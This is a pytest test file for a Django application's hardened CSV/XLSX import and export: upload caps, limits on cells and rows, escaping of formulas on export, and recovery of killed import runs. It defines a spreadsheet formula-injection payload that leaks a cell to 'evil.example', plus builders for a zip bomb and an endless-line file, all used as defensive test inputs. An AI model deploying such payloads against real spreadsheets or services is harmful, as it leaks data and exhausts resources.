"""Hardening of the exchange files (issue 13): zip bombs and endless lines, the upload cap, formula injection, and
imports whose process was killed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import random
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from peikao.core import synthetic
from peikao.core.choices import ImportStatus
from peikao.core.exchange.runner import run_export, run_import
from peikao.core.exchange.runs import import_runs_sweep, process_token
from peikao.core.exchange.tables import TableError, read_table, write_table
from peikao.core.exchange.uploads import LimitedUploadHandler, UploadTooLarge
from peikao.core.models import ImportRun
from peikao.core.services import api_token_create
from peikao.registry.models import Person
from peikao.testing.factories import PersonFactory

REPO = Path(__file__).resolve().parents[3]
rng = random.Random(13)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


# -- files that attack the reader ------------------------------------------------------------------------------
def xlsx_parts(rows: list[list]) -> dict[str, bytes]:
    """The parts (name → XML) of a small workbook written by openpyxl."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    with zipfile.ZipFile(data) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def xlsx_with_sheet(sheet_xml: bytes, *, rows: list[list] | None = None) -> io.BytesIO:
    """A workbook whose first sheet is ``sheet_xml`` (the other parts from openpyxl)."""
    parts = xlsx_parts(rows or [["id_number", "name"]])
    parts["xl/worksheets/sheet1.xml"] = sheet_xml
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    data.seek(0)
    return data


class _RepeatingDeflate:
    """A deflate compressor for a stream that repeats one block: after a full flush the compressor forgets what
    came before, so every repetition packs to the same bytes, packed once (1 GiB in a second, not a minute)."""

    def __init__(self):
        self._zlib = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._last: tuple[bytes | None, bytes] = (None, b"")

    def compress(self, data: bytes) -> bytes:
        if data is not self._last[0]:
            self._last = (data, self._zlib.compress(data) + self._zlib.flush(zlib.Z_FULL_FLUSH))
        return self._last[1]

    def flush(self) -> bytes:
        return self._zlib.flush()


def write_zip_bomb(path: Path, *, blank_mib: int = 1024) -> None:
    """A 1 MB XLSX whose sheet1.xml holds ``blank_mib`` MiB of blanks before its rows (the attack of issue 13)."""
    parts = xlsx_parts([["id_number", "name"], ["110101199003071234", "张三"]])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, content)
                continue
            head, tag, tail = content.partition(b"<sheetData>")
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as member:
                member._compressor = _RepeatingDeflate()  # type: ignore[attr-defined]
                member.write(head + tag)
                block = b" " * (1 << 20)
                for _ in range(blank_mib):
                    member.write(block)
                member.write(tail)


def write_endless_line(path: Path, *, mib: int = 192) -> None:
    """A CSV whose one data row is ``mib`` MiB without a line break."""
    with open(path, "wb") as fh:
        fh.write(b"id_number,name\n110101199003071234,")
        block = b"a" * (1 << 20)
        for _ in range(mib):
            fh.write(block)


PEAK_CHILD = """
import resource, sys
import django
django.setup()
from django.db import connection
from peikao.core.models import ImportRun
with connection.schema_editor() as editor:
    editor.create_model(ImportRun)  # the one table a refused dry run writes to
connection.cursor().execute("PRAGMA foreign_keys=OFF")  # its user table is not there
from peikao.core.exchange.runner import run_import
try:
    result = run_import(kind_name="persons", source=sys.argv[1], filename=sys.argv[2], dry_run=True)
    print("outcome", result.status, ",".join(sorted({problem.code for problem in result.problems})))
finally:
    # VmHWM: the peak of this program alone. ru_maxrss would carry over the peak of the test process that started
    # it (Linux keeps it across exec).
    try:
        status = open("/proc/self/status").read()
        peak_kb = int(status.split("VmHWM:")[1].split()[0])
    except (OSError, IndexError):
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        peak_kb = peak // 1024 if sys.platform == "darwin" else peak
    print("peak", peak_kb // 1024)
"""


def dry_run_in_child(path: Path, filename: str) -> tuple[str, int]:
    """A dry-run import of ``path`` in a fresh Python (an in-memory database): its outcome line and peak RSS in MB."""
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "peikao.settings",
        "DATABASE_URL": "sqlite://:memory:",
        "PYTHONPATH": str(REPO),
    }
    done = subprocess.run(
        [sys.executable, "-c", PEAK_CHILD, str(path), filename],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=600,
    )
    lines = dict(line.split(" ", 1) for line in done.stdout.splitlines() if " " in line)
    assert "peak" in lines, done.stderr[-3000:]
    return lines.get("outcome", f"crashed: {done.stderr[-500:]}"), int(lines["peak"])


@pytest.mark.parametrize(
    ("build", "filename", "code"),
    [(write_zip_bomb, "bomb.xlsx", "xlsx_too_large"), (write_endless_line, "endless.csv", "row_too_long")],
    ids=["xlsx-zip-bomb", "csv-endless-line"],
)
def test_a_bomb_as_dry_run_import_is_refused_under_200_mb(tmp_path, build, filename, code):
    path = tmp_path / filename
    build(path)
    outcome, peak_mb = dry_run_in_child(path, filename)
    path.unlink()  # 192 MB of an endless line need not wait for pytest's clean-up of old runs
    assert peak_mb < 200, f"peak {peak_mb} MB ({outcome})"
    assert outcome.split() == ["rejected", code], outcome


@pytest.mark.parametrize(
    ("sheet", "code"),
    [
        # 64 MiB of blanks: under the size cap, over the ratio cap
        (None, "xlsx_compression_ratio"),
        # a run of text between two tags longer than any cell
        (b"<worksheet><sheetData>" + b" " * 400_000 + b"<row r='1'/></sheetData></worksheet>", "cell_too_long"),
        # a row of 100,000 empty cells (openpyxl holds a row whole)
        (
            b"<worksheet><sheetData><row r='1'>" + b"<c/>" * 100_000 + b"</row></sheetData></worksheet>",
            "xlsx_row_too_wide",
        ),
        # one row far down: openpyxl would yield every row above it
        (
            b"<worksheet><sheetData><row r='1048576'><c r='A1048576'/></row></sheetData></worksheet>",
            "xlsx_too_many_rows",
        ),
        # a cell in column XFD: openpyxl would pad every row to it
        (
            b"<worksheet><sheetData><row r='1'><c r='XFD1' t='inlineStr'><is><t>x</t></is></c></row></sheetData></worksheet>",
            "xlsx_too_many_columns",
        ),
    ],
    ids=["ratio", "long-run", "wide-row", "far-row", "far-column"],
)
def test_an_xlsx_that_would_unpack_or_parse_beyond_the_limits_is_refused_before_parsing(sheet, code):
    if sheet is None:
        sheet = b"<worksheet><sheetData>" + b" " * (64 << 20) + b"</sheetData></worksheet>"
    with pytest.raises(TableError) as refused:
        read_table(xlsx_with_sheet(sheet), "x.xlsx")
    assert refused.value.code == code
    assert refused.value.zh != refused.value.en  # a reason in both languages


def test_the_row_cap_of_an_xlsx_is_a_setting(settings):
    settings.PEIKAO = {**settings.PEIKAO, "XLSX_MAX_ROWS": 3}
    rows = [["id_number", "name"]] + [[str(n), "x"] for n in range(5)]
    data = io.BytesIO()
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(data)
    data.seek(0)
    with pytest.raises(TableError) as refused:
        header, stream = read_table(data, "x.xlsx")
        list(stream)
    assert refused.value.code == "xlsx_too_many_rows"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cell_longer_than_the_cap_is_refused_with_its_row_and_column(settings, fmt):
    settings.PEIKAO = {**settings.PEIKAO, "IMPORT_MAX_CELL_CHARS": 100}
    rows = [["id_number", "name"], ["1", "ok"], ["2", "长" * 101]]
    if fmt == "csv":
        text = io.StringIO()
        csv.writer(text).writerows(rows)
        data = io.BytesIO(text.getvalue().encode())
    else:
        data = io.BytesIO()
        book = Workbook()
        for row in rows:
            book.active.append(row)
        book.save(data)
        data.seek(0)
    header, stream = read_table(data, f"x.{fmt}")
    assert next(stream) == (2, ["1", "ok"])
    with pytest.raises(TableError) as refused:
        next(stream)
    assert refused.value.code == "cell_too_long" and refused.value.params == {"row": 3, "column": 2, "n": 100}


def test_a_quoted_cell_spanning_lines_is_bounded_too():
    data = io.BytesIO(b'id_number,name\n1,"' + b"line\n" * 1_000_000 + b'"\n')
    header, stream = read_table(data, "x.csv")
    with pytest.raises(TableError) as refused:
        list(stream)
    assert refused.value.code == "cell_too_long" and refused.value.params["row"] == 2


@pytest.mark.django_db
def test_an_unreadable_file_writes_nothing_even_with_skip_invalid(settings):
    settings.PEIKAO = {**settings.PEIKAO, "IMPORT_MAX_CELL_CHARS": 60, "IMPORT_CHUNK_SIZE": 2}
    born = dt.date(1990, 3, 7)
    numbers = [synthetic.id_number(rng, "350102", born) for _ in range(5)]
    lines = ["id_number,name"] + [f"{number},张三" for number in numbers[:4]] + [f"{numbers[4]},{'长' * 61}"]
    result = run_import(
        kind_name="persons",
        source=io.BytesIO("\n".join(lines).encode()),
        filename="p.csv",
        skip_invalid=True,
    )
    assert result.status == ImportStatus.REJECTED and [p.code for p in result.problems] == ["cell_too_long"]
    assert not Person.objects.filter(id_number__in=numbers).exists()


@pytest.mark.django_db
def test_a_control_character_rejects_its_row_and_reaches_no_query():
    number = synthetic.id_number(rng, "350102", dt.date(1990, 3, 7))
    other = synthetic.id_number(rng, "350102", dt.date(1991, 3, 7))
    content = f"id_number,name\n{number}\x00,张三\n{other},李\x01四\n".encode()
    result = run_import(kind_name="persons", source=io.BytesIO(content), filename="p.csv")
    assert result.status == ImportStatus.REJECTED
    assert [(p.row, p.column, p.code) for p in result.problems] == [
        (2, "id_number", "control_character"),
        (3, "name", "control_character"),
    ]
    assert "\x00" not in result.problems[0].value
    assert not Person.objects.filter(id_number__in=[number, other]).exists()


# -- the upload cap -------------------------------------------------------------------------------------------
def auth(raw: str) -> dict:
    return {"HTTP_AUTHORIZATION": f"Bearer {raw}"}


@pytest.mark.django_db
def test_the_api_refuses_an_upload_over_the_cap_with_413_before_reading_it(client, world, settings):
    settings.PEIKAO = {**settings.PEIKAO, "MAX_UPLOAD_BYTES": 1000}
    _token, raw = api_token_create(user=world.users["province_admin"], name="t")
    runs = ImportRun.objects.count()
    upload = io.BytesIO(b"id_number,name\n")
    upload.name = "persons.csv"
    # The declared length is far beyond the body sent: reading the body would fail the test client's payload.
    response = client.post(
        "/api/imports/persons?dry_run=true", {"file": upload}, CONTENT_LENGTH="50000000", **auth(raw)
    )
    assert response.status_code == 413
    body = response.json()
    assert body["code"] == "upload_too_large" and body["message_zh"] != body["message_en"]
    assert "0.000954 MB" in body["message_en"]
    upload = io.BytesIO(b"id_number,name\n" + b"1,x\n" * 500)  # an honest length over the cap
    upload.name = "persons.csv"
    response = client.post("/api/imports/persons?dry_run=true", {"file": upload}, **auth(raw))
    assert response.status_code == 413
    assert ImportRun.objects.count() == runs


@pytest.mark.django_db
def test_the_import_page_refuses_an_upload_over_the_cap_with_413_before_reading_it(client, world, settings):
    settings.PEIKAO = {**settings.PEIKAO, "MAX_UPLOAD_BYTES": 1000}
    client.force_login(world.users["province_admin"])
    upload = io.BytesIO(b"id_number,name\n")
    upload.name = "persons.csv"
    response = client.post("/imports/", {"kind": "persons", "file": upload}, CONTENT_LENGTH="50000000")
    assert response.status_code == 413
    page = response.content.decode()
    assert "MB" in page and "upload" in page  # both languages: the English line under the Chinese one
    assert not ImportRun.objects.exists()


@pytest.mark.django_db
def test_the_import_page_still_checks_csrf_after_the_cap(world):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(world.users["province_admin"])
    upload = io.BytesIO(b"id_number,name\n")
    upload.name = "persons.csv"
    assert client.post("/imports/", {"kind": "persons", "file": upload}).status_code == 403


def test_a_body_longer_than_declared_is_stopped_at_the_cap(settings):
    settings.PEIKAO = {**settings.PEIKAO, "MAX_UPLOAD_BYTES": 100}
    handler = LimitedUploadHandler()
    assert handler.handle_raw_input(None, {}, 0, b"", "utf-8") is None  # no length given (chunked)
    assert handler.receive_data_chunk(b"x" * 60, 0) == b"x" * 60
    with pytest.raises(UploadTooLarge):
        handler.receive_data_chunk(b"x" * 60, 60)


# -- formula injection ----------------------------------------------------------------------------------------
NAMES = [FORMULA, "+86 张三", "-张三", "@张三", "'=张三", "'张三", "''张三", "张'三"]


def export(fmt: str) -> bytes:
    target = io.BytesIO()
    run_export(kind_name="persons", target=target, filename=f"persons.{fmt}")
    return target.getvalue()


@pytest.mark.django_db
def test_a_csv_export_writes_a_formula_as_text():
    person = PersonFactory(name=FORMULA)
    rows = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig"))))
    (row,) = [row for row in rows if row[0] == person.id_number]
    assert row[1] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)


@pytest.mark.django_db
def test_an_xlsx_export_writes_a_formula_as_a_string_cell():
    person = PersonFactory(name=FORMULA)
    data = export("xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 't="inlineStr"><is><t>=HYPERLINK(&quot;' in sheet or 't="inlineStr"><is><t>=HYPERLINK("' in sheet
    book = load_workbook(io.BytesIO(data))
    (cell,) = [row[1] for row in book.active.iter_rows() if row[0].value == person.id_number]
    assert cell.data_type == "s" and cell.value == FORMULA and cell.quotePrefix


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_import_export_import_round_trip_keeps_every_value(fmt):
    born = dt.date(1990, 3, 7)
    numbers = [synthetic.id_number(rng, "350102", born) for _ in NAMES]
    written = io.BytesIO()  # as docs/exchange.md says to write it (what our export writes)
    write_table(written, f"p.{fmt}", ["id_number", "name"], [list(pair) for pair in zip(numbers, NAMES, strict=True)])
    written.seek(0)
    first = run_import(kind_name="persons", source=written, filename=f"p.{fmt}")
    assert first.status == ImportStatus.IMPORTED and first.counts.imported == len(NAMES), first.problems
    assert dict(Person.objects.filter(id_number__in=numbers).values_list("id_number", "name")) == dict(
        zip(numbers, NAMES, strict=True)
    )
    again = run_import(kind_name="persons", source=io.BytesIO(export(fmt)), filename=f"p.{fmt}")
    assert again.status == ImportStatus.IMPORTED and again.counts.updated == 0, again.problems
    assert dict(Person.objects.filter(id_number__in=numbers).values_list("id_number", "name")) == dict(
        zip(numbers, NAMES, strict=True)
    )


@pytest.mark.django_db
def test_a_formula_typed_into_a_csv_by_hand_imports_as_it_stands():
    number = synthetic.id_number(rng, "350102", dt.date(1990, 3, 7))
    text = io.StringIO()
    csv.writer(text).writerows([["id_number", "name"], [number, FORMULA]])
    result = run_import(kind_name="persons", source=io.BytesIO(text.getvalue().encode()), filename="p.csv")
    assert result.status == ImportStatus.IMPORTED
    assert Person.objects.get(id_number=number).name == FORMULA


# -- imports whose process was killed -------------------------------------------------------------------------
def a_dead_process_token() -> str:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    host, pid, ticks = process_token().split("|")
    return f"{host}|{child.pid}|"


def running_run(**fields) -> ImportRun:
    return ImportRun.objects.create(
        kind="persons", file_name="p.csv", file_sha256="", actor_label="t", status=ImportStatus.RUNNING, **fields
    )


@pytest.mark.django_db
def test_a_run_whose_process_died_is_marked_failed_with_the_reason():
    dead = running_run(worker=a_dead_process_token())
    alive = running_run(worker=process_token())
    elsewhere = running_run(worker="another-host|1|1")
    assert import_runs_sweep() == 1
    dead.refresh_from_db(), alive.refresh_from_db(), elsewhere.refresh_from_db()
    assert dead.status == ImportStatus.FAILED and dead.finished_at is not None
    assert dead.errors[0]["code"] == "interrupted" and dead.errors[0]["reason_zh"] != dead.errors[0]["reason_en"]
    assert alive.status == elsewhere.status == ImportStatus.RUNNING


@pytest.mark.django_db
def test_a_run_older_than_the_stale_age_is_marked_failed_wherever_it_ran(settings):
    settings.PEIKAO = {**settings.PEIKAO, "IMPORT_STALE_MINUTES": 60}
    old = running_run(worker="another-host|1|1", started_at=timezone.now() - dt.timedelta(minutes=61))
    recent = running_run(worker="another-host|1|1", started_at=timezone.now() - dt.timedelta(minutes=59))
    old_here = running_run(worker=process_token(), started_at=timezone.now() - dt.timedelta(minutes=61))
    assert import_runs_sweep() == 2
    assert {run.pk for run in ImportRun.objects.filter(status=ImportStatus.FAILED)} == {old.pk, old_here.pk}
    recent.refresh_from_db()
    assert recent.status == ImportStatus.RUNNING


@pytest.mark.django_db
def test_the_import_page_the_api_and_a_new_import_sweep_interrupted_runs(client, world):
    user = world.users["province_admin"]
    _token, raw = api_token_create(user=user, name="t")
    client.force_login(user)
    for read in (
        lambda run: client.get("/imports/"),
        lambda run: client.get(f"/imports/{run.pk}/"),
        lambda run: client.get(f"/api/imports/runs/{run.pk}", **auth(raw)),
        lambda run: run_import(kind_name="persons", source=io.BytesIO(b"id_number,name\n"), filename="p.csv"),
    ):
        run = running_run(worker=a_dead_process_token(), user=user)
        response = read(run)
        run.refresh_from_db()
        assert run.status == ImportStatus.FAILED
        if hasattr(response, "status_code") and "/api/" in str(getattr(response, "request", {}).get("PATH_INFO")):
            assert response.json()["status"] == "failed"


@pytest.mark.django_db
def test_an_import_records_its_process():
    result = run_import(kind_name="persons", source=io.BytesIO(b"id_number,name\n"), filename="p.csv")
    assert result.run.worker == process_token()
